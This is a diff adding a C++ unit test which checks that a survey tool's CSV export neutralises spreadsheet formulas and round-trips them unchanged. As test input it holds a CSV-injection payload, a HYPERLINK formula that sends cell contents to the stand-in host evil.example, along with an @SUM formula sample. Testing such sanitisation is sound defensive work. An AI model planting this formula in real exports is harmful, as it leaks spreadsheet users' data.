@@ -168,3 +168,32 @@ TEST_CASE("[io] export filters: a wave, an unknown form") {
     options.decimal = ',';
     CHECK_THROWS_AS(sonda::export_responses(db.project(), out, options), sonda::UsageError);
 }
+
+TEST_CASE("[io] wide CSV neutralises formulas in texts and reads them back unchanged") {
+    Database db;
+    const std::string formula = R"(=HYPERLINK(\"http://evil.example/?\"&A1,\"click\"))";
+    db.import(db.write("formulas.ndjson",
+                       response_line(1, "\"sharing_1\":4,\"hours\":0,\"note\":\"" + formula +
+                                            "\",\"strengths\":[\"@SUM(1)\",\"'=x\",\"-\"]") +
+                           "\n"));
+    const std::string original = db.export_text(sonda::ExportFormat::Ndjson);
+    for (const auto& [delimiter, decimal] : {std::pair{',', '.'}, std::pair{';', ','}}) {
+        const std::string wide = db.export_text(sonda::ExportFormat::CsvWide, delimiter, decimal);
+        const Rows rows = parse_csv(wide);
+        REQUIRE(rows.size() == 2);
+        const auto column = [&](const std::string& name) {
+            return std::find(rows[0].begin(), rows[0].end(), name) - rows[0].begin();
+        };
+        CHECK(rows[1][column("note")].rfind("'=HYPERLINK(\"http://evil.example/", 0) == 0);
+        CHECK(rows[1][column("strengths")].rfind("'@SUM(1)", 0) == 0);
+        CHECK(rows[1][column("hours")] == "0");
+        const std::string long_csv =
+            db.export_text(sonda::ExportFormat::CsvLong, delimiter, decimal);
+        CHECK(long_csv.find(std::string(1, delimiter) + "''=x") != std::string::npos);
+
+        Database fresh;
+        INFO(wide);
+        CHECK(fresh.import(fresh.write("wide.csv", wide)).inserted == 1);
+        CHECK(fresh.export_text(sonda::ExportFormat::Ndjson) == original);
+    }
+}
